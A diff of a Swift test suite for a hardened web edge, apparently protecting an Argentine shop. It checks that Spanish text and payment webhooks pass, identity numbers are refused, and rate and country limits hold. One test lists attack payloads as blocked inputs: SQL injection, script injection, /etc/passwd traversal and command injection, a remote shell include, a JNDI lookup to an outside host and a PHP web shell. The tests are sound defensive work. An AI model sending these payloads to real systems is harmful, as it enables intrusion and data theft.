@@ -10,14 +10,17 @@ import Wire
 @Suite(.serialized, .timeLimit(.minutes(3)), .enabled(if: HardenedEdge.isInstalled, "see scripts/deps"))
 struct HardeningTests {
     static let phrases = [
-        #"D'Angelo / L'Oréal -- promo "verano""#, "¿Tenés turno? Sí, dale! #corte @barbero", "Peluquería O'Higgins & Ñandú",
+        #"D'Angelo / L'Oréal -- promo "verano""#, "¿Tenés turno? Sí, dale! #corte @barbero",
+        "Peluquería O'Higgins & Ñandú",
         "Av. 9 de Julio 1.234, 3° \"B\" (e/ Perú y Chacabuco)", "María José Núñez; corte + barba = $ 15.000,50",
         "Union y Select: la barbería de Güemes", "Feliz año, che :) <3",
     ]
 
     /// Whoever is turned away by a firewall that does not know Spanish is a customer lost.
     @Test func argentineNamesAndPhrasesPass() async throws {
-        try await withHardenedEdge({ $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil }) { edge in
+        try await withHardenedEdge({
+            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
+        }) { edge in
             for phrase in Self.phrases {
                 let query = try #require(phrase.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
                 #expect(try await edge.status("/search?q=\(query)") == 200, "GET \(phrase)")
@@ -33,15 +36,19 @@ struct HardeningTests {
             #expect(
                 try await edge.status(
                     "/webhooks/mercadopago?data.id=20359978212&type=payment", method: "POST", type: "application/json",
-                    body: #"{"action":"payment.updated","data":{"id":"20359978212"}}"#, agent: "MercadoPago WebHook v1.0 payment")
+                    body: #"{"action":"payment.updated","data":{"id":"20359978212"}}"#,
+                    agent: "MercadoPago WebHook v1.0 payment")
                     == 200)
         }
     }
 
     @Test func everyClassOfAttackIsRefused() async throws {
-        try await withHardenedEdge({ $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil }) { edge in
+        try await withHardenedEdge({
+            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
+        }) { edge in
             let attacks = [
-                "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+                "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                 "/search?file=../../../../etc/passwd", "/search?host=127.0.0.1%3Bcat%20/etc/passwd",
                 "/search?page=http://198.51.100.1/shell.txt%3F", "/search?q=%24%7Bjndi:ldap://198.51.100.1/a%7D",
                 "/search?q=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E",
@@ -57,7 +64,9 @@ struct HardeningTests {
     }
 
     @Test func paymentsTakeLessThanTheRest() async throws {
-        try await withHardenedEdge({ $0.classes[1].limit = .init(1000, .second, burst: 1000); $0.uri = nil }) { edge in
+        try await withHardenedEdge({
+            $0.classes[1].limit = .init(1000, .second, burst: 1000); $0.uri = nil
+        }) { edge in
             let json = "application/json"
             #expect(try await edge.status("/payments", method: "POST", type: json, body: #"{"amount":1500}"#) == 200)
             #expect(try await edge.status("/payments", method: "DELETE") == 405)
@@ -74,7 +83,9 @@ struct HardeningTests {
 
     /// Argentina: a CUIT, CUIL or DNI stands in no URL, and in nothing that is written.
     @Test func identityNumbersAreRefusedInURLsAndStandInNoLog() async throws {
-        try await withHardenedEdge({ $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil }) { edge in
+        try await withHardenedEdge({
+            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
+        }) { edge in
             for path in [
                 "/clientes/20-31415926-3", "/x?cuit=20314159263", "/x?a=1&CUIL=20-31415926-3", "/x?dni=31415926",
                 "/x?documento=31.415.926", "/dni/31415926", "/x?id=20%2D31415926%2D3",
@@ -150,7 +161,8 @@ struct HardeningTests {
             // One program, whatever address it comes from.
             statuses = []
             for index in 0..<5 {
-                statuses.append(try await edge.status("/r\(index)", from: "127.0.0.\(18 + index)", agent: "python-requests/2.31"))
+                statuses.append(
+                    try await edge.status("/r\(index)", from: "127.0.0.\(18 + index)", agent: "python-requests/2.31"))
             }
             #expect(statuses == [200, 200, 200, 200, 429])
             #expect(try await edge.status("/r9", agent: "Mozilla/5.0 (Windows NT 10.0)") == 200)
@@ -160,7 +172,9 @@ struct HardeningTests {
     @Test func countriesAreFilteredButNotWhatIsLetIn() async throws {
         try await withHardenedEdge({ $0.countries?.addresses = ["127.0.0.70"] }) { edge in
             let expected = [("127.0.0.18", 200), ("127.0.0.34", 200), ("127.0.0.66", 403), ("127.0.0.82", 403)]
-            for (address, status) in expected { #expect(try await edge.status("/x", from: address) == status, "\(address)") }
+            for (address, status) in expected {
+                #expect(try await edge.status("/x", from: address) == status, "\(address)")
+            }
             #expect(try await edge.status("/x", from: "127.0.0.70") == 200)
             // No country is known of it.
             #expect(try await edge.status("/x", from: "127.0.3.1") == 200)
@@ -187,10 +201,13 @@ struct HardeningTests {
     }
 
     @Test func anAddressHasOnlySoManyRequestsInWork() async throws {
-        try await withHardenedEdge({ $0.connections = 5; $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil }) { edge in
+        try await withHardenedEdge({
+            $0.connections = 5; $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
+        }) { edge in
             let connections = try (0..<5).map { _ in try RawConnection(port: edge.nginx.port, from: "127.0.0.18") }
             for connection in connections {
-                connection.send("POST /upload HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 9\r\n\r\n")
+                connection.send(
+                    "POST /upload HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 9\r\n\r\n")
             }
             var status = 0
             for _ in 0..<100 where status != 429 {
